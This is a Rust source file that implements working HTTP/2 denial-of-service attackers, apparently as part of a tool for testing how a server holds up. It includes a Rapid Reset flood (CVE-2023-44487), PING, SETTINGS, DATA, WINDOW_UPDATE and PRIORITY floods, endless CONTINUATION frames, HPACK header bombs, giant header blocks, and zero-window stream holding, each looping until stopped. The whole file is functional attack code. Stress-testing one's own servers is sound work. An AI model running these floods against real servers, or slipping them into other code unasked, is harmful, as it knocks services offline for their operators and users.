//! Attacks with frames of HTTP/2. Each function is one attacker, and goes on until it is dropped.

use std::future::pending;
use std::io;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::{MissedTickBehavior, interval, sleep};

use super::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEAD, HEADERS, NO_TABLE, PING,
    PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, code, get, push, push_literal,
};
use super::front::Front;

/// The time between two pieces of a flood.
const INTERVAL: Duration = Duration::from_millis(10);

/// The pause after a connection that the server has ended.
const PAUSE: Duration = Duration::from_millis(100);

/// A client's last id of a stream, long before which a flood begins a new connection.
const LAST_STREAM: u32 = 1 << 30;

/// What a piece of a flood is made for.
struct Piece {
    /// Which piece of the connection it is.
    number: u32,
}

impl Piece {
    /// Returns the ids of new streams in a piece that opens so many of them.
    fn streams(&self, count: u32) -> impl Iterator<Item = u32> + use<> {
        let first = self.number * count;
        (first..first + count).map(|index| 2 * index + 1)
    }
}

/// Requests that are cancelled at once, ten in a piece (CVE-2023-44487).
pub(super) async fn rapid_reset(front: Front) -> io::Result<()> {
    let headers = get("/?calm-1");
    flood(&front, 10, true, |piece, bytes| {
        for stream in piece.streams(10) {
            push(bytes, HEADERS, END_HEADERS | END_STREAM, stream, &headers);
            push(bytes, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
        }
    })
    .await
}

/// PINGs whose answers nothing reads, 20 in a piece.
pub(super) async fn pings(front: Front) -> io::Result<()> {
    flood(&front, 20, false, |_, bytes| {
        for _ in 0..20 {
            push(bytes, PING, 0, 0, &[0; 8]);
        }
    })
    .await
}

/// Settings whose acknowledgements nothing reads, 20 in a piece.
pub(super) async fn settings(front: Front) -> io::Result<()> {
    flood(&front, 20, false, |_, bytes| {
        for _ in 0..20 {
            push(bytes, SETTINGS, 0, 0, &[]);
        }
    })
    .await
}

/// A head that goes on and on, two KiB in a piece.
pub(super) async fn continuations(front: Front) -> io::Result<()> {
    let mut header = Vec::new();
    // A header of its own each time, which is not to be kept in the table.
    header.extend_from_slice(&[0x00, 1, b'x']);
    push_literal(&mut header, &[], &"a".repeat(1_000));
    let first = get("/?calm-1");
    flood(&front, 2, true, |piece, bytes| {
        if piece.number == 0 {
            push(bytes, HEADERS, END_STREAM, 1, &first);
        }
        push(bytes, CONTINUATION, 0, 1, &header);
        push(bytes, CONTINUATION, 0, 1, &header);
    })
    .await
}

/// Data without any, 20 in a piece, of a request that does not end.
pub(super) async fn empty_data(front: Front) -> io::Result<()> {
    let headers = get("/?calm-1");
    flood(&front, 20, true, |piece, bytes| {
        if piece.number == 0 {
            push(bytes, HEADERS, END_HEADERS, 1, &headers);
        }
        for _ in 0..20 {
            push(bytes, DATA, 0, 1, &[]);
        }
    })
    .await
}

/// Windows that grow by one byte, 20 in a piece.
pub(super) async fn window_updates(front: Front) -> io::Result<()> {
    flood(&front, 20, true, |_, bytes| {
        for _ in 0..20 {
            push(bytes, WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes());
        }
    })
    .await
}

/// Priorities of streams that there are not, 20 in a piece.
pub(super) async fn priorities(front: Front) -> io::Result<()> {
    flood(&front, 20, true, |piece, bytes| {
        for stream in piece.streams(20) {
            push(bytes, PRIORITY, 0, stream, &[0, 0, 0, 0, 16]);
        }
    })
    .await
}

/// Heads that name a long header of the table a thousand times, one in a piece.
pub(super) async fn header_bombs(front: Front) -> io::Result<()> {
    let mut first = get("/?calm-1");
    // This one is kept in the table, and is the first one in it (RFC 7541 § 6.2.1, § 2.3.3).
    first.extend_from_slice(&[0x40, 1, b'x']);
    push_literal(&mut first, &[], &"a".repeat(3_900));
    let mut others = get("/?calm-1");
    others.extend_from_slice(&[0xbe; 1_000]);
    flood(&front, 1, true, |piece, bytes| {
        let headers = if piece.number == 0 { &first } else { &others };
        for stream in piece.streams(1) {
            push(bytes, HEADERS, END_HEADERS | END_STREAM, stream, headers);
        }
    })
    .await
}

/// A head of a hundred headers of 1,000 bytes in one piece, ten times in a second.
pub(super) async fn giant_head(front: Front) -> io::Result<()> {
    let mut header = vec![0x00, 1, b'x'];
    push_literal(&mut header, &[], &"a".repeat(1_000));
    let block = header.repeat(16);
    let first = get("/?calm-1");
    loop {
        flood_once(
            &front,
            16,
            true,
            Duration::from_millis(100),
            |piece, bytes| {
                for stream in piece.streams(1) {
                    push(bytes, HEADERS, END_STREAM, stream, &first);
                    for _ in 0..5 {
                        push(bytes, CONTINUATION, 0, stream, &block);
                    }
                    push(bytes, CONTINUATION, END_HEADERS, stream, &block);
                }
            },
        )
        .await?;
        sleep(PAUSE).await;
    }
}

/// Opens 200 streams of long events, and grants them no window. It answers PINGs.
pub(super) async fn never_grant(front: Front) -> io::Result<()> {
    let headers = get("/?bulk-1");
    let (mut reader, mut writer) = front.connect(true).await?.into_split();
    let mut bytes = PREFACE.to_vec();
    // The initial window of streams is 0.
    let no_window = [0, 4, 0, 0, 0, 0];
    push(&mut bytes, SETTINGS, 0, 0, &[NO_TABLE, no_window].concat());
    push(&mut bytes, SETTINGS, ACK, 0, &[]);
    for stream in (Piece { number: 0 }).streams(200) {
        push(
            &mut bytes,
            HEADERS,
            END_HEADERS | END_STREAM,
            stream,
            &headers,
        );
    }
    writer.write_all(&bytes).await?;
    front.sent(200);
    while let Some((kind, flags, payload)) = read_frame(&mut reader).await {
        count(&front, kind, &payload);
        if kind == PING && flags & ACK == 0 {
            bytes.clear();
            push(&mut bytes, PING, ACK, 0, &payload);
            writer.write_all(&bytes).await?;
        }
    }
    front.ended();
    pending().await
}

/// Writes pieces of a flood on one connection after another.
async fn flood(
    front: &Front,
    sent: usize,
    is_read: bool,
    mut make: impl FnMut(&Piece, &mut Vec<u8>),
) -> io::Result<()> {
    loop {
        flood_once(front, sent, is_read, INTERVAL, &mut make).await?;
        sleep(PAUSE).await;
    }
}

/// Writes pieces of a flood, until the server ends the connection.
async fn flood_once(
    front: &Front,
    sent: usize,
    is_read: bool,
    pause: Duration,
    mut make: impl FnMut(&Piece, &mut Vec<u8>),
) -> io::Result<()> {
    let (mut reader, mut writer) = front.connect(is_read).await?.into_split();
    let write = async {
        let mut ticks = interval(pause);
        ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
        let mut bytes = PREFACE.to_vec();
        push(&mut bytes, SETTINGS, 0, 0, &NO_TABLE);
        push(&mut bytes, SETTINGS, ACK, 0, &[]);
        for number in 0..LAST_STREAM / 100 {
            ticks.tick().await;
            make(&Piece { number }, &mut bytes);
            if writer.write_all(&bytes).await.is_err() {
                break;
            }
            front.sent(sent);
            bytes.clear();
        }
        if is_read {
            // What the server has to say comes before the end.
            pending::<()>().await;
        }
    };
    let read = async {
        if !is_read {
            pending::<()>().await;
        }
        while let Some((kind, _, payload)) = read_frame(&mut reader).await {
            count(front, kind, &payload);
        }
    };
    tokio::select! {
        () = write => {}
        () = read => {}
    }
    front.ended();
    Ok(())
}

/// Counts what a frame of the server says about the attack.
fn count(front: &Front, kind: u8, payload: &[u8]) {
    let number = |bytes: Option<&[u8; 4]>| bytes.map_or(0, |bytes| u32::from_be_bytes(*bytes));
    match kind {
        GOAWAY => {
            let of_goaway = payload.get(4..).and_then(<[u8]>::first_chunk);
            front.answered(&format!("GOAWAY {}", code(number(of_goaway))));
        }
        RST_STREAM => {
            let of_reset = payload.first_chunk();
            front.answered(&format!("RST_STREAM {}", code(number(of_reset))));
        }
        HEADERS => front.answered(status(payload)),
        _ => {}
    }
}

/// Returns the status of a response, as far as it is one of those that are expected. It is the first header of all
/// (RFC 9113 § 8.3), in the fixed table of HPACK, or with a name of it and Huffman's code (RFC 7541 § 6.1, § 6.2). The
/// size of the other table may precede it (§ 6.3).
fn status(head: &[u8]) -> &'static str {
    match head.strip_prefix(&[0x20]).unwrap_or(head) {
        [0x88, ..] => "200",
        [0x08 | 0x18 | 0x48, 0x83, 0x69, 0x90, 0xff, ..] => "431",
        _ => "another status",
    }
}

/// Reads a frame: its type, its flags and its payload. Returns `None` at the end.
async fn read_frame(reader: &mut (impl AsyncRead + Unpin)) -> Option<(u8, u8, Vec<u8>)> {
    let mut head = [0; HEAD];
    reader.read_exact(&mut head).await.ok()?;
    let len = u32::from_be_bytes([0, head[0], head[1], head[2]]);
    let mut payload = vec![0; len as usize];
    reader.read_exact(&mut payload).await.ok()?;
    Some((head[3], head[4], payload))
}
